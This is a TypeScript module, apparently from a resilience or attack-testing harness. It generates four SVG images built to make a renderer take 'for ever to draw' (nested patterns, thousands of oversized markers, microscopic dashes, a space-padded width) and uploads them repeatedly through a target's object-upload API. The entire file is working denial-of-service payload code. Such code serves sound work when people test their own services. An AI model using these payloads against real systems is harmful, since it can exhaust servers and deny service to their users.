import { type Attack, type Attacker, asJson, strikeAt } from './attack.ts'

/** Ten patterns, each filled ten times with the one before: ten thousand million squares. */
function nestedPatterns(): string {
  const patterns = Array.from({ length: 10 }, (_, level) => {
    const squares = '<rect width="1" height="1" class="p0"/>'.replace('p0', `p${level}`).repeat(10)
    return `<pattern id="n${level + 1}" width=".1" height=".1">${squares}</pattern>`
  })
  const rules = Array.from({ length: 10 }, (_, level) => `.p${level + 1}{fill:url(#n${level + 1})}`)
  return svg(
    `<style>${rules.join('')}</style>${patterns.join('')}<rect width="100" height="100" class="p10"/>`,
  )
}

function manyMarkers(): string {
  const line = Array.from({ length: 20_000 }, (_, at) => `${at % 100},${(at * 7) % 100}`).join(' ')
  const marker = `<marker id="m" markerWidth="900" markerHeight="900"><rect width="900" height="900"/></marker>`
  return svg(`${marker}<polyline points="${line}" stroke="#000" marker-mid="url(#m)"/>`)
}

function tinyDashes(): string {
  return svg('<path d="M0 0H1000000V1000000H0" stroke="#000" stroke-dasharray=".001"/>')
}

function spacedWidth(): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" width="1${' '.repeat(60_000)}!"></svg>`
}

function svg(body: string): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100" width="2000" height="2000">${body}</svg>`
}

const hostilePictures = [nestedPatterns(), manyMarkers(), tinyDashes(), spacedWidth()]

export const pictureAttacks = {
  pictures: {
    about: 'logos in SVG that take for ever to draw',
    strike: async (attacker, round) => {
      const address = await uploadAddress(attacker)
      if (address === undefined) return 429
      return strikeAt(attacker, address, {
        method: 'PUT',
        headers: { 'content-type': 'image/svg+xml' },
        body: hostilePictures[round % hostilePictures.length] ?? '',
      })
    },
  },
} satisfies Record<string, Attack>

async function uploadAddress({ url, headers }: Attacker): Promise<string | undefined> {
  const { body = null, headers: type } = asJson({ name: 'logo.svg' })
  const answer = await fetch(`${url}/api/objects/upload`, {
    method: 'POST',
    body,
    headers: { ...headers, ...(type as Record<string, string>) },
  })
  const ticket = (await answer.json()) as { readonly uploadURL?: string }
  return ticket.uploadURL
}
